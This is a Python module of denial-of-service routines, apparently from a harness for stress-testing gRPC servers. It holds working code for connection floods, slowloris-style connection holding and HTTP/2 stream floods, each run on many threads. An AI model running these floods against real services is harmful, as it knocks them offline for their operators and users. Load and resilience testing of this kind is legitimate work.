"""How attackers behave, whatever they send. Each is a function of an address, a deadline and counts, and is run on a
thread for each connection, in a process of its own."""
import collections
import ctypes
import itertools
import multiprocessing
import socket
import struct
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from http2 import MAX_FRAME_BYTES, grpc_headers
from targets import TARGETS

RETRY_SECONDS = 0.005  # After a connection that was refused.
# An attack that is over is over: little is on its way then, and what is not is thrown away.
SEND_BUFFER_BYTES = 64 << 10
CONFIG = h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False)

Counts = collections.namedtuple('Counts', 'connections mebibytes')


def left(deadline):
    return max(deadline - time.monotonic(), 0.001)


def connect(address, deadline, counts):
    """A connection, or None after a moment."""
    try:
        connection = socket.create_connection(address, timeout=left(deadline))
    except OSError:
        time.sleep(RETRY_SECONDS)
        return None
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SEND_BUFFER_BYTES)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    counts[0] += 1
    return connection


def discard(connection):
    """Reads what has arrived. Raises OSError at the end."""
    connection.setblocking(False)
    try:
        while received := connection.recv(1 << 18):
            if len(received) < 1 << 18:
                return
    except BlockingIOError:
        return
    raise ConnectionResetError


def play(connection, steps, reads, deadline, counts):
    for step in steps:
        if left(deadline) <= 0.001:
            return
        if isinstance(step, bytes):
            connection.settimeout(left(deadline))
            connection.sendall(step)
            counts[1] += len(step)
        else:
            time.sleep(min(step, left(deadline)))
        if reads:
            discard(connection)


def sends(script, reads=True):
    """Sends what `script()` yields, bytes or seconds to pause, as fast as it goes; then, or when cut off, begins anew."""
    def attack(address, deadline, counts):
        while left(deadline) > 0.001:
            if connection := connect(address, deadline, counts):
                with connection:
                    try:
                        play(connection, script(), reads, deadline, counts)
                    except OSError:
                        pass
    return attack


def crowds(opening, size):
    """Opens many connections and holds them; replaces those that are closed."""
    def attack(address, deadline, counts):
        held = collections.deque()
        try:
            while left(deadline) > 0.001:
                if len(held) == size:
                    oldest = held.popleft()
                    try:
                        discard(oldest)
                        held.append(oldest)
                    except OSError:
                        oldest.close()
                    continue
                if connection := connect(address, deadline, counts):
                    held.append(connection)
                    try:
                        connection.sendall(opening)
                    except OSError:
                        pass
        finally:
            for connection in held:
                connection.close()
    return attack


class Flow:
    """A connection that keeps to HTTP/2, and to flow control, with calls whose bodies are the attack."""

    def __init__(self, connection, target, extra):
        self.socket, self.headers = connection, grpc_headers(TARGETS[target].path, extra)
        self.h2 = h2.connection.H2Connection(CONFIG)
        self.h2.initiate_connection()
        self.h2.increment_flow_control_window(1 << 30)
        self.bodies = {}  # Stream → chunks not sent yet, the first of them perhaps in part.

    def open(self, chunks):
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, self.headers)
        self.bodies[stream] = collections.deque(map(memoryview, chunks))

    def send(self, stream, ends):
        chunks = self.bodies[stream]
        while chunks:
            room = min(self.h2.local_flow_control_window(stream), MAX_FRAME_BYTES)
            if room <= 0:
                return
            chunk = chunks.popleft()
            if len(chunk) > room:
                chunks.appendleft(chunk[room:])
            self.h2.send_data(stream, bytes(chunk[:room]), end_stream=ends and not chunks)

    def receive(self, seconds):
        self.socket.settimeout(seconds)
        try:
            received = self.socket.recv(1 << 18)
        except TimeoutError:
            return
        if not received:
            raise ConnectionResetError
        for event in self.h2.receive_data(received):
            if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                self.bodies.pop(event.stream_id, None)
            elif isinstance(event, h2.events.DataReceived):
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)

    def run(self, bodies, streams, ends, deadline, counts):
        while left(deadline) > 0.001:
            while len(self.bodies) < min(streams, self.h2.remote_settings.max_concurrent_streams):
                self.open(next(bodies))
            for stream in list(self.bodies):
                self.send(stream, ends)
            if outgoing := self.h2.data_to_send():
                counts[1] += len(outgoing)
                self.socket.settimeout(left(deadline))
                self.socket.sendall(outgoing)
            self.receive(min(0.05, left(deadline)))


def calls(target, bodies, streams=1, extra=(), ends=True):
    """Calls with each of the bodies, which are lists of chunks, in turn. `ends`: whether the last chunk ends the call."""
    def attack(address, deadline, counts):
        supply = itertools.cycle(bodies)
        while left(deadline) > 0.001:
            if connection := connect(address, deadline, counts):
                with connection:
                    try:
                        Flow(connection, target, extra).run(supply, streams, ends, deadline, counts)
                    except (OSError, h2.exceptions.H2Error):
                        pass
    return attack


def _run(attack, connections, address, seconds, counts):
    deadline = time.monotonic() + seconds
    threads = [threading.Thread(target=attack, args=(address, deadline, counts), daemon=True)
               for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds * 2 + 5)


def run(attack, connections, address, seconds):
    """Attacks from a process of its own, which is gone with all its connections afterwards."""
    counts = multiprocessing.RawArray(ctypes.c_longlong, 2)
    process = multiprocessing.Process(target=_run, args=(attack, connections, address, seconds, counts), daemon=True)
    process.start()
    process.join(seconds * 2 + 10)
    if process.is_alive():
        process.kill()
        process.join()
    return Counts(counts[0], counts[1] / (1 << 20))
